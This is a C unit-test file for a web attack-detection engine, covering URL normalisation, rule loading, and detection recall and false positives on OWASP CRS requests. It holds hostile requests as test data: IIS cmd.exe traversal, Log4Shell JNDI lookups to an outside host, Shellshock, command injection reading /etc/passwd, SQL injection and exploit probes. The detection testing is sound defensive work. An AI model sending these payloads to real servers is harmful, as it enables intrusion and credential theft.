@@ -1,0 +1,627 @@
+/*
+ * test_attack.c - the normaliser, the rule loader and the signature engine
+ * with the shipped rules: the seed's IIS Unicode request, benign
+ * look-alikes, bad input, and recall / false positives per class family
+ * on the OWASP CRS regression requests (tests/fixtures/attacks/).
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "attack/attack.h"
+#include "attack/normalise.h"
+#include "attack/rules.h"
+#include "base/fileio.h"
+#include "base/strbuf.h"
+
+#define RULES_DIR FIXTURES "/../../rules"
+
+static struct attack_engine engine;
+
+static int
+setup(void **state)
+{
+	struct attack_ruleset rs;
+	struct err err = {0};
+
+	(void)state;
+	rules_init(&rs);
+	if (rules_load_path(&rs, RULES_DIR, &err) == -1) {
+		fprintf(stderr, "%s\n", err.msg);
+		return -1;
+	}
+	if (attack_engine_init(&engine, &rs, NULL, &err) == -1) {
+		fprintf(stderr, "%s\n", err.msg);
+		return -1;
+	}
+	return 0;
+}
+
+static int
+teardown(void **state)
+{
+	(void)state;
+	attack_engine_release(&engine);
+	return 0;
+}
+
+static size_t
+match(const char *method, const char *uri, const char *ua,
+    struct attack_result *res)
+{
+	struct attack_req rq = {0};
+
+	rq.method = method;
+	rq.method_len = strlen(method);
+	attack_req_uri(&rq, uri, strlen(uri));
+	rq.ua = ua;
+	rq.ua_len = ua ? strlen(ua) : 0;
+	return attack_match(&engine, &rq, res);
+}
+
+static void
+explain(const char *what, const struct attack_result *res)
+{
+	for (size_t i = 0; i < res->nhits; i++) {
+		const struct attack_rule *r =
+		    attack_rule_of(&engine, &res->hit[i]);
+
+		fprintf(stderr, "  %s: rule %u %s (%s)\n", what, r->id, r->cls,
+		    r->desc);
+	}
+}
+
+/* ---- normaliser ---- */
+
+static void
+decodes_overlong_and_double(void **state)
+{
+	char out[256];
+	unsigned f = 0;
+	size_t n;
+
+	(void)state;
+	n = norm_path(
+	    "/scripts/..%c0%af../winnt/system32/cmd.exe", 42, out, &f);
+	assert_int_equal(n, strlen("/winnt/system32/cmd.exe"));
+	assert_memory_equal(out, "/winnt/system32/cmd.exe", n);
+	assert_true(f & NORM_OVERLONG);
+	assert_true(f & NORM_HIDDEN_TRAVERSAL);
+	assert_true(f & NORM_ABOVE_ROOT);
+
+	f = 0;
+	n = norm_path("/scripts/..%255c../winnt", 24, out, &f);
+	assert_memory_equal(out, "/winnt", n);
+	assert_true(f & NORM_DOUBLE);
+	assert_true(f & NORM_HIDDEN_TRAVERSAL);
+
+	f = 0; /* three-byte overlong and IIS's lax two-byte form */
+	n = norm_path("/a/..%e0%80%af..%c1%1cb", 23, out, &f);
+	assert_memory_equal(out, "/b", n);
+	assert_true(f & NORM_OVERLONG);
+
+	f = 0;
+	n = norm_path("/a/..%c1%9c../x", 15, out, &f);
+	assert_memory_equal(out, "/x", n);
+
+	f = 0; /* %u and fullwidth solidus */
+	n = norm_path("/a/..%u2215..%uff0fetc", 22, out, &f);
+	assert_true(f & NORM_PCT_U);
+	assert_true(f & NORM_FULLWIDTH);
+	assert_true(n > 0);
+}
+
+static void
+keeps_plain_paths(void **state)
+{
+	char out[256];
+	unsigned f = 0;
+	size_t n;
+
+	(void)state;
+	n = norm_path("/blog/2020/etc/notes.html", 25, out, &f);
+	assert_memory_equal(out, "/blog/2020/etc/notes.html", n);
+	assert_int_equal(f, 0);
+
+	f = 0; /* raw ".." resolved, but not hidden by encoding */
+	n = norm_path("/a/b/../c/./d/", 14, out, &f);
+	assert_memory_equal(out, "/a/c/d/", n);
+	assert_true(f & NORM_DOTSEG);
+	assert_false(f & NORM_HIDDEN_TRAVERSAL);
+	assert_false(f & NORM_ABOVE_ROOT);
+
+	f = 0;
+	n = norm_decode("q=hello%20world+again", 21, 1, out, &f);
+	assert_memory_equal(out, "q=hello world again", n);
+	assert_int_equal(f, NORM_PCT);
+}
+
+static void
+survives_bad_input(void **state)
+{
+	char out[1 << 16];
+	unsigned f = 0;
+	size_t n;
+	char *big;
+
+	(void)state;
+	n = norm_decode("abc%", 4, 1, out, &f); /* cut at the end */
+	assert_memory_equal(out, "abc%", n);
+	assert_true(f & NORM_BAD_PCT);
+	f = 0;
+	n = norm_decode("abc%4", 5, 1, out, &f);
+	assert_memory_equal(out, "abc%4", n);
+	f = 0;
+	n = norm_decode("a%u12", 5, 1, out, &f);
+	assert_memory_equal(out, "a%u12", n);
+	f = 0;
+	n = norm_decode("a\0b%00c", 7, 0, out, &f); /* NUL raw and encoded */
+	assert_memory_equal(out, "abc", n);
+	assert_true(f & NORM_NUL);
+	f = 0;
+	n = norm_decode("\xff\xfe%c0", 5, 0, out, &f); /* invalid UTF-8 */
+	assert_int_equal(n, 3);
+	assert_true(f & NORM_BAD_UTF8);
+	f = 0;
+	n = norm_path("%2e%2e%2f%2e%2e%2f", 18, out, &f);
+	assert_true(f & NORM_ABOVE_ROOT);
+	assert_true(n <= 18);
+
+	big = malloc(60000);
+	assert_non_null(big);
+	for (size_t i = 0; i < 60000; i += 3)
+		memcpy(big + i, "%25", 3);
+	f = 0;
+	n = norm_decode(big, 60000, 1, out, &f);
+	assert_true(n <= 60000);
+	free(big);
+}
+
+static void
+shell_form_drops_quoting(void **state)
+{
+	char out[128];
+	const char *in = "c'a't /et\\c/${x}pass\"\"wd${IFS}-n";
+	size_t n;
+
+	(void)state;
+	n = norm_shell(in, strlen(in), out);
+	assert_memory_equal(out, "cat /etc/passwd -n", n);
+}
+
+/* ---- rule files ---- */
+
+static void
+rules_parse_and_override(void **state)
+{
+	struct attack_ruleset rs;
+	struct err err = {0};
+	const char a[] = "# c\nid: 7\nclass: x\nseverity: high\nfields: ua\n"
+	                 "pattern: foo(bar|baz)\n\nid: 8\nclass: y\n"
+	                 "anomaly: crlf\n";
+	const char b[] = "id: 7\nclass: z\npattern: qux\n";
+	const char bad[] = "id: 9\nclass: z\nseverity: dire\npattern: x\n";
+
+	(void)state;
+	rules_init(&rs);
+	assert_int_equal(rules_parse(&rs, "a", a, strlen(a), &err), 0);
+	assert_int_equal(rs.n, 2);
+	assert_int_equal(rs.r[0].fields, 1u << AF_UA);
+	assert_int_equal(rs.r[0].sev, ASEV_HIGH);
+	assert_string_equal(rs.r[1].anomaly, "crlf");
+	assert_int_equal(rules_parse(&rs, "b", b, strlen(b), &err), 0);
+	assert_int_equal(rs.n, 2);
+	assert_string_equal(rules_find(&rs, 7)->cls, "z");
+	assert_string_equal(rules_find(&rs, 7)->pattern, "qux");
+	assert_int_equal(rules_parse(&rs, "bad", bad, strlen(bad), &err), -1);
+	assert_non_null(strstr(err.msg, "bad:3"));
+	rules_release(&rs);
+}
+
+static void
+bad_pattern_names_the_rule(void **state)
+{
+	struct attack_ruleset rs;
+	struct attack_engine e;
+	struct err err = {0};
+	const char a[] = "id: 42\nclass: x\npattern: (unclosed\n";
+
+	(void)state;
+	rules_init(&rs);
+	assert_int_equal(rules_parse(&rs, "f.rules", a, strlen(a), &err), 0);
+	assert_int_equal(attack_engine_init(&e, &rs, NULL, &err), -1);
+	assert_non_null(strstr(err.msg, "rule 42"));
+	rules_release(&rs);
+}
+
+/* ---- the seed's request ---- */
+
+static void
+seed_iis_unicode_request(void **state)
+{
+	struct attack_result res;
+	const char *uri = "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir";
+
+	(void)state;
+	assert_true(match("GET", uri, NULL, &res) > 0);
+	assert_true(attack_has_class(&engine, &res, "iis-unicode"));
+	assert_true(attack_has_class(&engine, &res, "command-exec"));
+	assert_int_equal(res.sev, ASEV_CRITICAL);
+	assert_true(attack_path_executable(uri, strlen(uri)));
+
+	/* the variants the worms used */
+	assert_true(match("GET",
+	                "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir+c:\\",
+	                NULL, &res) > 0);
+	assert_true(attack_has_class(&engine, &res, "iis-unicode"));
+	assert_true(attack_has_class(&engine, &res, "command-exec"));
+	assert_true(
+	    match("GET",
+	        "/msadc/..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
+	        NULL, &res) > 0);
+	assert_true(attack_has_class(&engine, &res, "iis-unicode"));
+	/* IIS writes the decoded stem to its log: cs-uri-stem
+	 * "/scripts/../../winnt/system32/cmd.exe", cs-uri-query "/c+dir" */
+	assert_true(match("GET", "/scripts/../../winnt/system32/cmd.exe?/c+dir",
+	                NULL, &res) > 0);
+	assert_true(attack_has_class(&engine, &res, "iis-unicode"));
+	assert_true(attack_has_class(&engine, &res, "command-exec"));
+	assert_true(match("GET", "/scripts/root.exe?/c+dir", NULL, &res) > 0);
+	assert_true(attack_has_class(&engine, &res, "command-exec"));
+}
+
+static void
+benign_look_alikes(void **state)
+{
+	static const char *const ok[] = {
+	    "/search?q=select+shoes+from+union+street",
+	    "/search?q=select%20shoes%20from%20union%20street",
+	    "/blog/2019/04/etc/notes-on-etc-and-more.html",
+	    "/blog/etc/passwords-are-hard.html",
+	    "/search?q=how+to+write+a+script+for+backups",
+	    "/docs/script?topic=script",
+	    "/my%20documents/report%20final.pdf",
+	    "/a%20b/c?d=e%20f",
+	    "/index.php?page=2&sort=id&order=asc",
+	    "/search?q=rock+%26+roll&lang=ja",
+	    "/wiki/Special:Search?search=union+select+committee",
+	    "/products?category=shoes&color=red&size=42",
+	    "/~alice/index.html",
+	    "/img/logo.png?v=1.2.3",
+	    "/search?q=100%25+cotton",
+	    "/q?text=We+received+this+mail+from+Mars",
+	    "/q?text=Don't+quit",
+	    "/q?var=having+fun",
+	    "/q?a=and+7+oranges",
+	    "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
+	    "/cgi-bin/awstats.pl?config=www",
+	    "/downloads/release-1.0.tar.gz",
+	    "/login?next=/account/settings",
+	    "/api/items?filter=name&online=1",
+	    "/search?q=drop+shipping+table+lamps",
+	    "/search?q=Tom's+diner",
+	};
+	struct attack_result res;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(ok) / sizeof(ok[0]); i++) {
+		if (match("GET", ok[i],
+		        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) "
+		        "Gecko/20100101 Firefox/115.0",
+		        &res) != 0) {
+			fprintf(stderr, "false positive: %s\n", ok[i]);
+			explain("hit", &res);
+		}
+		assert_int_equal(res.nhits, 0);
+	}
+}
+
+static void
+bad_input_is_handled(void **state)
+{
+	struct attack_result res;
+	char *big;
+	size_t n = 200000;
+
+	(void)state;
+	match("GET", "/a?b=%", NULL, &res);
+	match("GET", "/a?b=%2", NULL, &res);
+	match("GET", "/a%c0", "\xff\xfe\xfd", &res);
+	big = malloc(n + 1);
+	assert_non_null(big);
+	memset(big, 'a', n);
+	memcpy(big, "/x?q=", 5);
+	memcpy(big + n - 20, "%27+or+%271%27=%271", 19);
+	big[n] = '\0';
+	match("GET", big, NULL, &res); /* cut at ATTACK_FIELD_MAX: no crash */
+	free(big);
+	{
+		struct attack_req rq = {0};
+		const char nul[] = "/index.php?file=../../etc/passwd\0.jpg";
+
+		rq.method = "GET";
+		rq.method_len = 3;
+		attack_req_uri(&rq, nul, sizeof(nul) - 1);
+		assert_true(attack_match(&engine, &rq, &res) > 0);
+		assert_true(attack_has_class(&engine, &res, "traversal") ||
+		    attack_has_class(&engine, &res, "sensitive-file"));
+	}
+}
+
+static void
+modern_attacks(void **state)
+{
+	static const struct {
+		const char *uri, *ua, *cls;
+	} cases[] = {
+	    {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", NULL,
+	        "exploit-probe"},
+	    {"/index.php?s=/Index/\\think\\app/invokefunction&function="
+	     "call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
+	        NULL, "exploit-probe"},
+	    {"/GponForm/diag_Form?images/", NULL, "exploit-probe"},
+	    {"/", "${jndi:ldap://1.2.3.4:1389/a}", "log4shell"},
+	    {"/?x=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x/a}", NULL,
+	        "log4shell"},
+	    {"/?x=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
+	        NULL, "log4shell"},
+	    {"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", NULL, "log4shell"},
+	    {"/cgi-bin/status", "() { :; }; /bin/bash -c 'cat /etc/passwd'",
+	        "shellshock"},
+	    {"/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
+	        "scanner"},
+	    {"/", "sqlmap/1.7#stable (https://sqlmap.org)", "scanner"},
+	    {"/",
+	        "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
+	        "https://nmap.org/book/nse.html)",
+	        "scanner"},
+	    {"/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+	        "scanner"},
+	    {"/", "Mozilla/5.0 zgrab/0.x", "scanner"},
+	    {"/", "gobuster/3.1.0", "scanner"},
+	    {"/",
+	        "WPScan v3.8.22 "
+	        "(https://wpscan.com/wordpress-security-scanner)",
+	        "scanner"},
+	    {"/cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd", NULL, "old-cgi"},
+	    {"/cgi-bin/test-cgi?*", NULL, "old-cgi"},
+	    {"/cgi-bin/php.cgi?/etc/passwd", NULL, "old-cgi"},
+	    {"/.env", NULL, "sensitive-file"},
+	    {"/.git/config", NULL, "sensitive-file"},
+	    {"/web.config", NULL, "sensitive-file"},
+	    {"/wp-config.php.bak", NULL, "sensitive-file"},
+	    {"/index.php?page=../../../../etc/passwd", NULL, "traversal"},
+	    {"/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%"
+	     "20users--",
+	        NULL, "sql-injection"},
+	    {"/q?s=%3Cscript%3Ealert(1)%3C/script%3E", NULL, "xss"},
+	    {"/ping?host=127.0.0.1;cat%20/etc/passwd", NULL,
+	        "command-injection"},
+	    {"/index.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder("
+	     "new%20java.lang.String[]{%22id%22})).start()}",
+	        NULL, "exploit-probe"},
+	    {"/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", NULL, "traversal"},
+	    {"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", NULL, "command-exec"},
+	};
+	struct attack_result res;
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		match("GET", cases[i].uri, cases[i].ua, &res);
+		if (!attack_has_class(&engine, &res, cases[i].cls)) {
+			fprintf(stderr, "missed %s: %s %s\n", cases[i].cls,
+			    cases[i].uri, cases[i].ua ? cases[i].ua : "");
+			explain("got", &res);
+		}
+		assert_true(attack_has_class(&engine, &res, cases[i].cls));
+	}
+}
+
+/* ---- OWASP CRS regression requests ---- */
+
+struct family {
+	const char *group; /* CRS rule-file group */
+	const char *classes[6];
+	unsigned det, det_hit, nodet, nodet_hit, hidden;
+};
+
+static struct family families[] = {
+    {"SCANNER-DETECTION", {"scanner"}, 0, 0, 0, 0, 0},
+    {"PROTOCOL-ENFORCEMENT",
+        {"protocol", "iis-unicode", "sensitive-file", "traversal"}, 0, 0, 0, 0,
+        0},
+    {"PROTOCOL-ATTACK", {"protocol", "command-injection", "exploit-probe"}, 0,
+        0, 0, 0, 0},
+    {"ATTACK-LFI", {"traversal", "sensitive-file", "iis-unicode"}, 0, 0, 0, 0,
+        0},
+    {"ATTACK-RFI", {"rfi"}, 0, 0, 0, 0, 0},
+    {"ATTACK-RCE", {"command-injection", "command-exec", "shellshock"}, 0, 0, 0,
+        0, 0},
+    {"ATTACK-PHP", {"php-injection"}, 0, 0, 0, 0, 0},
+    {"ATTACK-GENERIC", {"code-injection", "ssrf"}, 0, 0, 0, 0, 0},
+    {"ATTACK-XSS", {"xss"}, 0, 0, 0, 0, 0},
+    {"ATTACK-SQLI", {"sql-injection"}, 0, 0, 0, 0, 0},
+    {"SESSION-FIXATION", {"session-fixation"}, 0, 0, 0, 0, 0},
+    {"ATTACK-JAVA", {"java-injection", "log4shell"}, 0, 0, 0, 0, 0},
+};
+
+/*
+ * Is the attack in this row in a field an access log records (method,
+ * request URI, User-Agent)?  CRS tests that put the payload only in
+ * another header or in the body send a request that is logged as a
+ * plain "GET /get" and cannot be told apart from a benign one.
+ */
+static int
+logged(const char *rule_id, const char *uri, const char *ua)
+{
+	static const char *const plain[] = {"/", "/get", "/post", "/upload",
+	    "/upload1", "/anything", "*", "/post/foo", "/post/bar",
+	    "/pineapple", "/cgi-bin/fup.cgi", "/get/upload1"};
+	/* the URI is not plain, but what fires is a header */
+	static const char *const header_rules[] = {
+	    "920201", "920202", "920660", "920120", "920340"};
+
+	for (size_t i = 0; i < sizeof(header_rules) / sizeof(header_rules[0]);
+	     i++)
+		if (strcmp(rule_id, header_rules[i]) == 0)
+			return 0;
+	if (ua[0] != '\0' && strcmp(ua, "OWASP CRS test agent") != 0)
+		return 1;
+	for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++)
+		if (strcmp(uri, plain[i]) == 0)
+			return 0;
+	return 1;
+}
+
+static int
+family_hit(const struct family *fam, const struct attack_result *res)
+{
+	for (size_t c = 0; c < 6 && fam->classes[c]; c++)
+		if (attack_has_class(&engine, res, fam->classes[c]))
+			return 1;
+	return 0;
+}
+
+/* Splits a TSV line in place into at most max columns. */
+static size_t
+split_tsv(char *line, char **col, size_t max)
+{
+	size_t n = 0;
+
+	col[n++] = line;
+	for (char *p = line; *p && n < max; p++)
+		if (*p == '\t') {
+			*p = '\0';
+			col[n++] = p + 1;
+		}
+	return n;
+}
+
+static void
+crs_recall_and_false_positives(void **state)
+{
+	struct strbuf sb = STRBUF_INIT(1u << 24);
+	struct err err = {0};
+	char *p, *nl;
+	unsigned tot_det = 0, tot_hit = 0, tot_nodet = 0, tot_fp = 0;
+	unsigned tot_hidden = 0, tot_other = 0;
+	int verbose = getenv("ATTACK_VERBOSE") != NULL;
+
+	(void)state;
+	assert_int_equal(
+	    file_read(FIXTURES "/attacks/crs-regression-requests.tsv", 1u << 24,
+	        &sb, NULL, &err),
+	    0);
+	p = sb.p;
+	nl = strchr(p, '\n'); /* header */
+	assert_non_null(nl);
+	for (p = nl + 1; *p; p = nl + 1) {
+		char *col[10];
+		struct family *fam = NULL;
+		struct attack_result res;
+		const char *method;
+		int detect, hit;
+
+		nl = strchr(p, '\n');
+		if (nl == NULL)
+			break;
+		*nl = '\0';
+		if (split_tsv(p, col, 10) < 10)
+			continue;
+		for (size_t f = 0; f < sizeof(families) / sizeof(families[0]);
+		     f++)
+			if (strstr(col[0], families[f].group) != NULL)
+				fam = &families[f];
+		if (fam == NULL)
+			continue;
+		if (strcmp(col[8], "detect") == 0)
+			detect = 1;
+		else if (strcmp(col[8], "no-detect") == 0)
+			detect = 0;
+		else {
+			tot_other++;
+			continue;
+		}
+		method = col[4];
+		while (*method == ' ' || *method == '\t')
+			method++;
+		match(method, col[5], col[6], &res);
+		if (detect) {
+			if (!logged(col[1], col[5], col[6])) {
+				fam->hidden++;
+				tot_hidden++;
+				continue;
+			}
+			hit = family_hit(fam, &res);
+			fam->det++;
+			fam->det_hit += (unsigned)hit;
+			if (!hit && verbose) {
+				fprintf(stderr, "MISS %s %s %s | %s\n", col[1],
+				    method, col[5], col[6]);
+				explain("got", &res);
+			}
+		} else {
+			hit = res.nhits > 0;
+			fam->nodet++;
+			fam->nodet_hit += (unsigned)hit;
+			if (hit && verbose) {
+				fprintf(stderr, "FP %s %s %s | %s\n", col[1],
+				    method, col[5], col[6]);
+				explain("got", &res);
+			}
+		}
+	}
+	printf("CRS regression requests, per class family "
+	       "(payload in method, URI or User-Agent):\n");
+	printf("%-22s %8s %8s %8s %8s %8s %8s\n", "family", "detect", "flagged",
+	    "recall", "no-det", "flagged", "FP-rate");
+	for (size_t f = 0; f < sizeof(families) / sizeof(families[0]); f++) {
+		struct family *fm = &families[f];
+
+		printf("%-22s %8u %8u %7.1f%% %8u %8u %7.1f%%   (+%u not in "
+		       "a logged field)\n",
+		    fm->group, fm->det, fm->det_hit,
+		    fm->det ? 100.0 * fm->det_hit / fm->det : 100.0, fm->nodet,
+		    fm->nodet_hit,
+		    fm->nodet ? 100.0 * fm->nodet_hit / fm->nodet : 0.0,
+		    fm->hidden);
+		tot_det += fm->det;
+		tot_hit += fm->det_hit;
+		tot_nodet += fm->nodet;
+		tot_fp += fm->nodet_hit;
+	}
+	printf("%-22s %8u %8u %7.1f%% %8u %8u %7.1f%%   (+%u not in a "
+	       "logged field, %u 'other')\n",
+	    "ALL", tot_det, tot_hit, 100.0 * tot_hit / tot_det, tot_nodet,
+	    tot_fp, 100.0 * tot_fp / tot_nodet, tot_hidden, tot_other);
+	strbuf_release(&sb);
+	/* floors: a rule change that loses coverage fails here */
+	assert_true(tot_hit * 100 >= tot_det * 80);
+	assert_true(tot_fp * 100 <= tot_nodet * 25);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+	    cmocka_unit_test(decodes_overlong_and_double),
+	    cmocka_unit_test(keeps_plain_paths),
+	    cmocka_unit_test(survives_bad_input),
+	    cmocka_unit_test(shell_form_drops_quoting),
+	    cmocka_unit_test(rules_parse_and_override),
+	    cmocka_unit_test(bad_pattern_names_the_rule),
+	    cmocka_unit_test(seed_iis_unicode_request),
+	    cmocka_unit_test(benign_look_alikes),
+	    cmocka_unit_test(bad_input_is_handled),
+	    cmocka_unit_test(modern_attacks),
+	    cmocka_unit_test(crs_recall_and_false_positives),
+	};
+
+	return cmocka_run_group_tests(tests, setup, teardown);
+}
